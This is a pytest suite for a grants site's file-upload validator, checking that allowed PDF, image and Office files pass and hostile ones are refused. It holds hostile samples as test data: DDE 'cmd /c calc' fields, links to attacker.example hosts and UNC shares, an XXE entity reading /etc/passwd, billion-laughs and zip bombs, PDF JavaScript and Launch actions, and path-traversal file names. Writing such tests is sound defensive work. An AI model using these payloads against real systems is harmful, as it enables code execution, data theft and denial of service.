"""Checking uploaded files by their content: every refusal, and each allowed type accepted.

The files are built here: hand-made PDF, PNG and JPEG bytes; DOCX and ODT with zipfile and real
XLSX from openpyxl come from tests/office_files.py. The builders are used by the page tests too.
"""

from __future__ import annotations

import contextlib
import io
import struct
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from grants import office_content, uploads
from grants.extensions import db
from grants.models.applications import ApplicationDocument
from grants.uploads import UploadRefused, check_upload, safe_display_name
from tests.factories import ApplicationFactory
from tests.helpers import error_messages, page, post
from tests.office_files import (
    DDE_CODE,
    DOCUMENT_XML,
    DOCX_TYPES,
    LAUGHS,
    ODF_NAMESPACES,
    OLE_FILE,
    OLE_OBJECTS,
    OLE_TYPE,
    SPREADSHEET,
    WORD_NAMESPACES,
    W,
    attached_template,
    cell_formula,
    docx_bytes,
    field,
    field_runs,
    frame,
    header,
    inserting,
    link_to_workbook,
    name_formula,
    odt_bytes,
    odt_file,
    ole_object_runs,
    paragraph,
    relationships,
    repack,
    word_file,
    word_with_chart,
    word_with_ole_object,
    workbook_file,
    workbook_with_links_and_formulas,
    xlsx_bytes,
    xlsx_with,
    zip_bytes,
)

# Builders ----------------------------------------------------------------------------------------


def pdf_bytes(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>") -> bytes:
    body = b"".join(objects) or b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"trailer\n" + trailer + b"\n%%EOF\n"


def object_stream(body: bytes) -> bytes:
    """PDF 1.5 object stream: dictionaries compressed out of plain sight."""
    data = zlib.compress(b"1 0 " + body)
    return (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
        + data + b"\nendstream\nendobj\n"
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bytes(width: int = 1, height: int = 1) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00" * height)  # one red pixel per row, filter byte first
    return (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_bytes(width: int = 1, height: int = 1) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x11\x00\x02\x11\x01\x03\x11\x01"
    scan = b"\xff\xda" + struct.pack(">H", 12) + b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + b"\x00" * 8
    return b"\xff\xd8" + app0 + frame + scan + b"\xff\xd9"


def refusal(filename: str, data) -> str:
    with pytest.raises(UploadRefused) as refused:
        check_upload(filename, data)
    return refused.value.message


# Accepted ----------------------------------------------------------------------------------------

ALLOWED = [
    ("accounts.pdf", pdf_bytes, "pdf", "application/pdf"),
    ("constitution.docx", docx_bytes, "docx",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("budget.xlsx", xlsx_bytes, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("policy.odt", odt_bytes, "odt", "application/vnd.oasis.opendocument.text"),
    ("photo.jpg", jpeg_bytes, "jpg", "image/jpeg"),
    ("photo.JPEG", jpeg_bytes, "jpg", "image/jpeg"),
    ("diagram.png", png_bytes, "png", "image/png"),
]


@pytest.mark.parametrize(("filename", "build", "file_type", "content_type"), ALLOWED)
def test_each_allowed_type_is_accepted(filename, build, file_type, content_type):
    data = build()
    checked = check_upload(filename, data)
    assert (checked.display_name, checked.file_type, checked.content_type) == (filename, file_type, content_type)
    assert checked.data == data and checked.size_bytes == len(data)
    assert len(checked.sha256) == 64


def test_a_stream_is_read_like_bytes():
    checked = check_upload("accounts.pdf", io.BytesIO(pdf_bytes()))
    assert checked.data == pdf_bytes()


def test_a_file_of_exactly_10mb_is_accepted():
    data = pdf_bytes()
    data += b"%" + b"x" * (uploads.MAX_BYTES - len(data) - 1)
    assert check_upload("scan.pdf", data).size_bytes == 10 * 1024 * 1024


def test_ordinary_pdf_features_are_accepted():
    fonts = b"2 0 obj\n<< /Type /Font /BaseFont /Times#20New#20Roman /URI (https://example.org/) >>\nendobj\n"
    assert check_upload("a.pdf", pdf_bytes(fonts, object_stream(b"<< /Type /Page /Parent 3 0 R >>")))


# Refused: size and type --------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    assert refusal("accounts.pdf", b"") == "The selected file is empty"
    assert refusal("accounts.pdf", io.BytesIO()) == "The selected file is empty"


def test_a_file_over_10mb_is_refused():
    too_big = pdf_bytes() + b"0" * uploads.MAX_BYTES
    assert refusal("accounts.pdf", too_big) == "The selected file must be smaller than 10MB"


def test_a_stream_over_10mb_is_refused_without_reading_it_all():
    stream = io.BytesIO(b"%PDF-" + b"0" * (50 * 1024 * 1024))
    assert refusal("accounts.pdf", stream) == "The selected file must be smaller than 10MB"
    assert stream.tell() == uploads.MAX_BYTES + 1


@pytest.mark.parametrize("filename", ["setup.exe", "notes.txt", "accounts", "report.pdf.exe", "page.html", "sheet.ods"])
def test_other_types_are_refused(filename):
    assert refusal(filename, pdf_bytes()) == "The selected file must be a PDF, DOCX, XLSX, ODT, JPG or PNG"


@pytest.mark.parametrize(
    ("filename", "build"),
    [
        ("constitution.docx", pdf_bytes),  # a PDF renamed .docx
        ("accounts.pdf", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),  # an .exe renamed .pdf
        ("photo.jpg", png_bytes),
        ("diagram.png", jpeg_bytes),
        ("budget.xlsx", docx_bytes),
        ("constitution.docx", xlsx_bytes),
        ("policy.odt", docx_bytes),
        ("policy.odt", lambda: odt_bytes(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")),
        ("constitution.docx", lambda: zip_bytes([("readme.txt", b"hello")])),
        ("accounts.pdf", lambda: b"<html><script>alert(1)</script></html>"),
        ("accounts.pdf", lambda: b" %PDF-1.7\n" + pdf_bytes()),  # the header must come first
    ],
)
def test_content_that_does_not_match_the_name_is_refused(filename, build):
    extension = filename.rpartition(".")[2]
    assert refusal(filename, build()) == f"The selected file's content does not match its name (.{extension})"


# Refused: macros ---------------------------------------------------------------------------------

MACROS = "The selected file contains macros. Save it without macros and try again"


@pytest.mark.parametrize(
    ("filename", "build"),
    [
        ("constitution.docm", docx_bytes),
        ("budget.xlsm", xlsx_bytes),
        ("constitution.docx", lambda: docx_bytes(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))),
        ("constitution.docx", lambda: docx_bytes(content_types=DOCX_TYPES.replace(
            b"document.main+xml", b"document.macroEnabled.main+xml"))),
        ("budget.xlsx", lambda: xlsx_with(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))),
        ("budget.xlsx", lambda: xlsx_with(("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"))),
        ("constitution.docx", lambda: docx_bytes(("word/embeddings/Sheet1.xlsm", b"PK"))),
        ("policy.odt", lambda: odt_bytes(("Basic/Standard/Module1.xml", b"<script:module/>"))),
        ("policy.odt", lambda: odt_bytes(("Scripts/python/run.py", b"import os"))),
        ("policy.odt", lambda: odt_bytes(content=b'<office:event-listeners><script:event-listener '
                                          b'xlink:href="vnd.sun.star.script:Standard.Module1.Run"/>')),
    ],
)
def test_macros_are_refused(filename, build):
    assert refusal(filename, build()) == MACROS


# Refused: links to other files, DDE and embedded objects -----------------------------------------

LINKS = "The selected file links to other files. Save it without the links and try again"
DDE = "The selected file contains fields or formulas that start other programs. Save it without them and try again"
EMBEDDED = "The selected file contains embedded objects. Save it without them and try again"
@pytest.mark.parametrize(
    ("filename", "build"),
    [
        ("constitution.docx", attached_template),  # fetched when the document opens, macros and all
        ("constitution.docx", lambda: word_file(
            rels=(("subDocument", "file:///\\\\server\\share\\part2.docx", "External"),))),
        ("constitution.docx", lambda: word_file(parts=(
            ("word/webSettings.xml", f'<w:webSettings {WORD_NAMESPACES}><w:frameset><w:frame><w:sourceFileName '
                                     'r:id="rId100"/></w:frame></w:frameset></w:webSettings>'.encode()),
            ("word/_rels/webSettings.xml.rels", relationships(("frame", "http://evil.example/frame.html", "External"))),
        ))),
        ("constitution.docx", lambda: word_file(
            rels=(("image", "file:///\\\\attacker.example\\share\\logo.png", "External"),))),
        ("constitution.docx", lambda: word_file(rels=(("oleObject", "file:///C:/Budgets/budget.xlsx", "External"),))),
        ("constitution.docx", lambda: word_file(field(' INCLUDETEXT "C:\\\\Users\\\\Public\\\\notes.docx" '))),
        ("constitution.docx", lambda: word_file(field(' INCLUDEPICTURE "http://attacker.example/p.png" \\d '))),
        ("budget.xlsx", lambda: workbook_file(link_to_workbook)),
        ("budget.xlsx", lambda: workbook_file(cell_formula('=_xlfn.WEBSERVICE("https://attacker.example/rates")'))),
        ("budget.xlsx", lambda: xlsx_with((
            "xl/connections.xml",
            f'<connections xmlns="{SPREADSHEET}"><connection id="1" '
            'name="Rates" type="4" refreshOnLoad="1"><webPr url="https://attacker.example/'
            'rates.html"/></connection></connections>'.encode()))),
        ("policy.odt", lambda: odt_file(frame('<draw:image xlink:href="file://attacker.example/share/logo.png"/>'))),
        ("policy.odt", lambda: odt_file('<text:section text:name="Annex"><text:section-source '
                                        'xlink:href="../Annex.odt"/></text:section>')),
    ],
)
def test_links_to_other_files_are_refused(filename, build):
    assert refusal(filename, build()) == LINKS


@pytest.mark.parametrize(
    ("filename", "build"),
    [
        ("constitution.docx", lambda: word_file(field(DDE_CODE))),
        ("constitution.docx", lambda: word_file(
            field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"'))),
        ("constitution.docx", lambda: word_file('<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/k calc.exe&quot; ">'
                                                "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>")),
        ("constitution.docx", lambda: word_file(  # the field's type spelt by a field nested in it
            field(field_runs(" QUOTE 68 68 69 65 85 84 79 ", result="DDEAUTO"),
                  " c:\\\\windows\\\\system32\\\\cmd.exe "))),
        ("constitution.docx", lambda: word_file(rels=(("header", "header1.xml"),),
                                                parts=(("word/header1.xml", header(field(DDE_CODE))),))),
        ("constitution.docx", lambda: word_file(  # in a tracked deletion, back if the deletion is rejected
            '<w:p><w:del w:id="1" w:author="A"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>'
            'DDEAUTO cmd "/c calc"</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>')),
        ("budget.xlsx", lambda: workbook_file(cell_formula("=cmd|' /C calc'!A0"))),
        ("budget.xlsx", lambda: workbook_file(name_formula("Refresh", "cmd|' /C calc'!A0"))),
        ("budget.xlsx", lambda: repack(workbook_file(link_to_workbook), change={
            "xl/externalLinks/externalLink1.xml": lambda _: f'<externalLink xmlns="{SPREADSHEET}"><ddeLink '
            'ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
            "</externalLink>".encode()})),
        ("policy.odt", lambda: odt_file(
            '<text:dde-connection-decls><text:dde-connection-decl office:name="calc" office:dde-application="cmd" '
            'office:dde-topic="/c calc" office:dde-item="A0" office:automatic-update="true"/>'
            '</text:dde-connection-decls>'
            '<text:p><text:dde-connection text:connection-name="calc">1</text:dde-connection></text:p>')),
    ],
)
def test_dde_fields_and_formulas_are_refused(filename, build):
    assert refusal(filename, build()) == DDE


@pytest.mark.parametrize(
    ("filename", "build"),
    [
        ("constitution.docx", word_with_ole_object),
        ("constitution.docx", lambda: word_file(f"<w:p>{ole_object_runs()}</w:p>")),
        ("constitution.docx", lambda: word_file(parts=(("word/embeddings/oleObject1.bin", b"not a compound file"),))),
        ("constitution.docx", lambda: word_file(
            parts=(("word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls", OLE_FILE),))),
        ("constitution.docx", lambda: word_file(parts=(("word/media/image2.png", OLE_FILE),))),  # an OLE file renamed
        ("constitution.docx", lambda: word_file(types=OLE_TYPE)),
        ("constitution.docx", lambda: word_file(field(" EMBED Excel.Sheet.8 "))),
        ("constitution.docx", lambda: word_file(rels=(("control", "activeX/activeX1.xml"),), parts=(
            ("word/activeX/activeX1.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                                          b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'),))),
        ("constitution.docx", lambda: word_file('<w:altChunk r:id="rId100"/>', rels=(("aFChunk", "chunk.rtf"),),
                                                parts=(("word/chunk.rtf", b"{\\rtf1{\\object\\objemb}}"),))),
        ("budget.xlsx", lambda: xlsx_with(
            ("xl/embeddings/oleObject1.bin", OLE_FILE),
            ("xl/worksheets/_rels/sheet1.xml.rels", relationships(("oleObject", "../embeddings/oleObject1.bin"))),
            change={"xl/worksheets/sheet1.xml": inserting(OLE_OBJECTS, b"</worksheet>"),
                    "[Content_Types].xml": inserting(OLE_TYPE.encode(), b"</Types>")})),
        ("budget.xlsx", lambda: xlsx_with(
            change={"xl/worksheets/sheet1.xml": inserting(OLE_OBJECTS, b"</worksheet>")})),
        ("policy.odt", lambda: odt_file(frame('<draw:object-ole xlink:href="./Object 1"/>'),
                                        parts=(("Object 1", OLE_FILE),),
                                        manifest='<manifest:file-entry manifest:full-path="Object 1" '
                                                 'manifest:media-type="application/vnd.sun.star.oleobject"/>')),
        ("policy.odt", lambda: odt_file(parts=(("Object 1", OLE_FILE),))),
    ],
)
def test_embedded_objects_are_refused(filename, build):
    assert refusal(filename, build()) == EMBEDDED


@pytest.mark.parametrize(
    ("filename", "build", "message"),
    [
        ("constitution.docx", lambda: attached_template(mode="&#69;xternal"), LINKS),  # a character reference
        ("constitution.docx", lambda: word_file(  # another prefix, lower case
            f'<x:p xmlns:x="{W}"><x:r><x:fldChar x:fldCharType="begin"/></x:r><x:r><x:instrText> ddeauto cmd "/c calc"'
            '</x:instrText></x:r><x:r><x:fldChar x:fldCharType="end"/></x:r></x:p>'), DDE),
        ("constitution.docx", lambda: repack(word_file(field(DDE_CODE)), change={  # UTF-16
            "word/document.xml": lambda body: body.decode().replace("UTF-8", "UTF-16").encode("utf-16")}), DDE),
        ("constitution.docx", lambda: repack(word_file(field(DDE_CODE)), change={  # UTF-16 without a byte order mark
            "word/document.xml": lambda body: body.decode().replace("UTF-8", "UTF-16").encode("utf-16-le")}), DDE),
        ("budget.xlsx", lambda: repack(workbook_file(cell_formula("=cmd|' /C calc'!A0")), change={
            "xl/worksheets/sheet1.xml": lambda body: body.replace(b"cmd|", b"cmd&#124;")}), DDE),
        ("budget.xlsx", lambda: repack(  # split by a comment
            workbook_file(cell_formula('=CALL("kernel32","WinExec","JCJ","calc",0)')),
            change={"xl/worksheets/sheet1.xml": lambda body: body.replace(b"CALL(", b"CA<!-- -->LL(")}), DDE),
        ("budget.xlsx", lambda: workbook_file(lambda book: (cell_formula("=cmd|' /C calc'!A0")(book),
                                                             link_to_workbook(book))), DDE),  # the worst first
    ],
)
def test_disguised_links_and_commands_are_found(filename, build, message):
    assert refusal(filename, build()) == message


@pytest.mark.parametrize(
    ("filename", "build"),
    [
        ("constitution.docx", lambda: word_file('<w:p><w:hyperlink r:id="rId100"><w:r><w:t>GOV.UK</w:t></w:r>'
                                                "</w:hyperlink></w:p>",
                                                rels=(("hyperlink", "https://www.gov.uk/", "External"),))),
        ("constitution.docx", lambda: word_file(
            field(' HYPERLINK "file:///\\\\server\\share\\policy.docx" '),
            field(' ADDIN ZOTERO_ITEM CSL_CITATION {"citationID":"a1"} '),  # a reference manager's citation
            field(" IF ", field_runs(" MERGEFIELD Region "), ' = "North" "Yes" "No" '),
            field(" DOCPROPERTY Title "), '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>',
        )),
        ("constitution.docx", word_with_chart),
        ("budget.xlsx", lambda: workbook_file(workbook_with_links_and_formulas)),
        ("policy.odt", lambda: odt_file(
            '<text:p><text:a xlink:type="simple" xlink:href="https://www.gov.uk/">GOV.UK</text:a></text:p>',
            frame('<draw:object xlink:href="./Object 1"/>'), frame('<draw:image xlink:href="Pictures/logo.png"/>'),
            parts=(("Object 1/content.xml", f'<office:document-content {ODF_NAMESPACES}><office:body><office:chart/>'
                                            "</office:body></office:document-content>".encode()),),
        )),
    ],
)
def test_hyperlinks_charts_and_ordinary_fields_are_accepted(filename, build):
    assert check_upload(filename, build()).file_type == filename.rpartition(".")[2]


@pytest.mark.parametrize(
    ("filename", "build"),
    [
        ("constitution.docx", lambda: repack(word_file(), change={"word/document.xml": lambda _: (
            f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
            f"<w:document {WORD_NAMESPACES}><w:body>{paragraph('&secret;')}</w:body></w:document>").encode()})),
        ("budget.xlsx", lambda: repack(xlsx_bytes(), change={  # a billion laughs
            "xl/worksheets/sheet1.xml": lambda body: LAUGHS + body.replace(b"<t>Income</t>", b"<t>&i;</t>")})),
        ("policy.odt", lambda: repack(odt_file(), stored_first=True, change={"content.xml": lambda body: body.replace(
            b"<office:document-content", b'<!DOCTYPE office:document-content SYSTEM "http://attacker.example/x.dtd">'
            b"<office:document-content")})),
    ],
)
def test_xml_declaring_a_document_type_is_refused_unread(filename, build):
    """No Office or OpenDocument part declares one; entities, local files and fetched DTDs need one."""
    assert refusal(filename, build()) == uploads.UNREADABLE


def test_a_formula_longer_than_excel_allows_is_refused_unread():
    too_long = repack(workbook_file(cell_formula("=1")), change={  # 18,000 characters, partly spelt in references
        "xl/worksheets/sheet1.xml": lambda body: body.replace(b"<f>1</f>", b"<f>" + b"1+&#49;" * 6000 + b"</f>")})
    assert refusal("budget.xlsx", too_long) == uploads.UNREADABLE


@pytest.mark.parametrize(
    ("href", "inside"),
    [
        ("./Object 1", True), ("Pictures/logo.png", True), ("#Annex", True), ("", True),
        ("Object 1/../Pictures/a.png", True),
        ("../Annex.odt", False), ("./Object 1/../../a.odt", False), ("%2E%2E/a.odt", False), ("/etc/passwd", False),
        ("C:\\Annex.odt", False), ("\\\\server\\share\\a.png", False), ("https://example.org/a.png", False),
    ],
)
def test_open_document_references_inside_the_package(href, inside):
    assert office_content.inside_package(href) is inside


@pytest.fixture
def upload_folder(app, tmp_path, monkeypatch):
    folder = tmp_path / "uploads"
    monkeypatch.setitem(app.config, "UPLOAD_FOLDER", str(folder))
    return folder


@pytest.mark.parametrize(
    ("filename", "build", "message"),
    [
        ("constitution.docx", lambda: word_file(field(DDE_CODE)), DDE),
        ("budget.xlsx", lambda: workbook_file(link_to_workbook), LINKS),
        ("constitution.docx", word_with_ole_object, EMBEDDED),
    ],
)
def test_the_upload_page_explains_the_refusal_and_stores_nothing(
    as_role, users, upload_folder, filename, build, message
):
    application = ApplicationFactory(organisation=users["org_a"])
    applicant = as_role("applicant")
    response = post(applicant, f"/applications/{application.id}/documents",
                    {"kind": "constitution", "file": (io.BytesIO(build()), filename)},
                    content_type="multipart/form-data")
    assert response.status_code == 200
    assert error_messages(response) == [message]
    assert page(response).select_one("#file-error").get_text(" ", strip=True) == f"Error: {message}"
    assert db.session.scalars(select(ApplicationDocument).filter_by(application_id=application.id)).all() == []
    assert not upload_folder.exists() or list(upload_folder.iterdir()) == []


# Refused: archives that unpack too large ---------------------------------------------------------

UNPACKS = "The selected file is too large when opened. Save a smaller version and try again"


def test_a_zip_bomb_is_refused_from_its_directory():
    bomb = docx_bytes(("word/media/padding.bin", b"\x00" * (60 * 1024 * 1024)))
    assert len(bomb) < 200 * 1024  # 60MB of zeros squeezed small
    assert refusal("constitution.docx", bomb) == UNPACKS


def test_an_entry_compressed_beyond_any_real_document_is_refused():
    assert refusal("constitution.docx", docx_bytes(("word/padding.xml", b"\x00" * (5 * 1024 * 1024)))) == UNPACKS


def test_too_many_entries_are_refused():
    many = docx_bytes(*((f"word/part{n}.xml", b"<x/>") for n in range(uploads.MAX_ENTRIES)))
    assert refusal("constitution.docx", many) == UNPACKS


def test_overlapping_entries_are_refused():
    data = bytearray(docx_bytes(("word/other.xml", b"<other/>")))
    # Point the last central directory entry at the first local header (Fifield's "better zip bomb").
    last = data.rfind(b"PK\x01\x02")
    struct.pack_into("<L", data, last + 42, 0)
    assert refusal("constitution.docx", bytes(data)) == (
        "The selected file could not be read. Save it again and try again")


def test_a_pdf_object_stream_that_unpacks_too_large_is_refused():
    assert refusal("accounts.pdf", pdf_bytes(object_stream(b"\x00" * (60 * 1024 * 1024)))) == UNPACKS


# Refused: hidden content (polyglots) --------------------------------------------------------------

HIDDEN = "The selected file has other content hidden in it. Save it again and try again"
PAYLOAD = zip_bytes([("payload.exe", b"MZ" + b"\x00" * 64)])


@pytest.mark.parametrize(
    ("filename", "build"),
    [
        ("diagram.png", lambda: png_bytes() + PAYLOAD),
        ("accounts.pdf", lambda: pdf_bytes() + PAYLOAD),
        ("photo.jpg", lambda: jpeg_bytes() + PAYLOAD),
        ("accounts.pdf", lambda: pdf_bytes().replace(b"%%EOF", PAYLOAD + b"\n%%EOF")),  # inside, not at the end
        ("diagram.png", lambda: png_bytes() + b"trailing bytes"),
        ("diagram.png", lambda: png_bytes()[:33] + _png_chunk(b"tEXt", b"%PDF-1.7 hidden") + png_bytes()[33:]),
        ("constitution.docx", lambda: docx_bytes() + b"appended after the archive"),
        ("constitution.docx", lambda: zip_bytes([  # a PDF header in the first 1KB: opens as a PDF too
            ("%PDF-1.7 1 0 obj", b"x"), ("[Content_Types].xml", DOCX_TYPES), ("word/document.xml", DOCUMENT_XML)])),
    ],
)
def test_hidden_content_is_refused(filename, build):
    assert refusal(filename, build()) == HIDDEN


# Refused: active PDFs and passwords --------------------------------------------------------------

ACTIVE = "The selected PDF contains scripts, actions or attached files. Save it without them and try again"


@pytest.mark.parametrize(
    "objects",
    [
        b"1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n",
        b"1 0 obj\n<< /Type /Catalog /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<</S/JS>>\nendobj\n",
        b"1 0 obj\n<< /Type /Action /S /Launch /F (cmd.exe) >>\nendobj\n",
        b"1 0 obj\n<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream\nendobj\n",
        b"1 0 obj\n<< /Names << /EmbeddedFiles 4 0 R >> >>\nendobj\n",
        b"1 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n",  # names spelt in hex
        object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),  # hidden in a compressed object stream
        object_stream(b"<< /S /Lau#6Ech >>"),
    ],
)
def test_active_pdfs_are_refused(objects):
    assert refusal("accounts.pdf", pdf_bytes(objects)) == ACTIVE


def test_password_protected_files_are_refused():
    encrypted = pdf_bytes(trailer=b"<< /Root 1 0 R /Encrypt 9 0 R >>")
    assert refusal("accounts.pdf", encrypted) == (
        "The selected file is password protected. Remove the password and try again")
    data = bytearray(docx_bytes())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # set the "encrypted" bit
        at = data.find(signature)
        data[at + flags_at] |= 0x1
    assert refusal("constitution.docx", bytes(data)) == (
        "The selected file is password protected. Remove the password and try again"
    )


@pytest.mark.parametrize(
    ("filename", "build"),
    [("diagram.png", lambda: png_bytes(20000, 20000)), ("photo.jpg", lambda: jpeg_bytes(20000, 20000))],
)
def test_images_too_large_to_open_are_refused(filename, build):
    assert refusal(filename, build()) == "The selected image is too large. Save it at a smaller size and try again"


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("diagram.png", png_bytes()[:20]),
        ("photo.jpg", b"\xff\xd8\xff\xe0\x00"),
        ("constitution.docx", docx_bytes()[:-30]),
        ("constitution.docx", b"PK\x03\x04" + b"\x00" * 26 + b"PK\x05\x06" + b"\x00" * 18),  # no entries
        ("accounts.pdf",
         pdf_bytes(b"5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream\n")),
    ],
)
def test_damaged_files_are_refused(filename, data):
    assert refusal(filename, data) in {uploads.UNREADABLE, HIDDEN}


# File names --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Sam\\Documents\\accounts 2025.pdf", "accounts 2025.pdf"),
        ("acc\x00ount\x1bs\r\n.pdf", "accounts .pdf"),
        (".hidden.pdf", "hidden.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # a right-to-left override hiding ".exe"
        ('we say "hello" <b>.pdf', "we say _hello_ _b_.pdf"),
        ("Übersicht   der\tKonten.pdf", "Übersicht der Konten.pdf"),
        ("", "document"),
        ("...", "document"),
    ],
)
def test_odd_file_names_are_neutralised(sent, shown):
    assert safe_display_name(sent) == shown


def test_a_very_long_name_is_shortened_keeping_its_extension():
    shown = safe_display_name("a" * 300 + ".pdf")
    assert len(shown) == 100 and shown.endswith("aaa.pdf")


def test_the_extension_of_a_neutralised_name_is_the_one_checked():
    assert refusal("invoice\u202efdp.exe", pdf_bytes()) == uploads.WRONG_TYPE
    assert check_upload("../../etc/passwd.pdf", pdf_bytes()).display_name == "passwd.pdf"


@given(st.text(max_size=400))
def test_any_name_becomes_a_short_plain_name(name):
    shown = safe_display_name(name)
    assert 0 < len(shown) <= uploads.MAX_NAME_LENGTH
    assert "/" not in shown and "\\" not in shown and not shown.startswith(".")
    assert all(ch.isprintable() for ch in shown)


@settings(max_examples=300)
@given(st.sampled_from(["a.pdf", "a.docx", "a.xlsx", "a.odt", "a.jpg", "a.png"]), st.binary(min_size=1, max_size=2000),
       st.sampled_from([b"", b"%PDF-", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04"]))
def test_any_bytes_are_accepted_or_refused_but_never_crash(filename, data, prefix):
    with contextlib.suppress(UploadRefused):
        check_upload(filename, prefix + data)


# Built once: openpyxl stamps the time into each workbook, and hypothesis needs the same bytes.
SAMPLES = [(filename, build()) for filename, build, _, _ in ALLOWED]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(SAMPLES), st.data())
def test_damaged_copies_of_real_files_are_accepted_or_refused_but_never_crash(sample, data):
    filename, good = sample
    original = bytearray(good)
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(original) - 1))
        original[at] = data.draw(st.integers(0, 255))
    with contextlib.suppress(UploadRefused):
        check_upload(filename, bytes(original))
